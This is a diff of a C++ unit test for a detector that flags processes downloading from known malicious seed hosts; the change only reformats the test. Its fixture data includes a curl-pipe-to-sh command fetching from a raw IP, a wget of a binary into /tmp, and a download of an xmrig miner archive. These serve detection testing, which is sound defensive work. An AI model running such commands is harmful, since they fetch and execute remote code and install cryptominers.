@@ -8,11 +8,10 @@ namespace {
 
 TEST(ProcIocCmdlineCheckTest, FlagsDownloadsFromSeedHosts) {
   Facts facts = BaseFacts();
-  facts.processes.push_back(
-      MakeProcess(10, 700, {"wget", "https://accrochezvous.fr/javae", "-O", "/tmp/javae"},
-                  "/usr/bin/wget"));
   facts.processes.push_back(MakeProcess(
-      11, 700, {"sh", "-c", "curl -s http://77.110.110.55:8080/x | sh"}, "/bin/dash"));
+      10, 700, {"wget", "https://accrochezvous.fr/javae", "-O", "/tmp/javae"}, "/usr/bin/wget"));
+  facts.processes.push_back(
+      MakeProcess(11, 700, {"sh", "-c", "curl -s http://77.110.110.55:8080/x | sh"}, "/bin/dash"));
   facts.processes.push_back(
       MakeProcess(12, 700, {"/usr/bin/curl", "--url=http://185.202.239.150/xmrig.tgz"}));
   facts.processes.push_back(MakeProcess(13, 700, {"wget", "https://example.org/x"}));
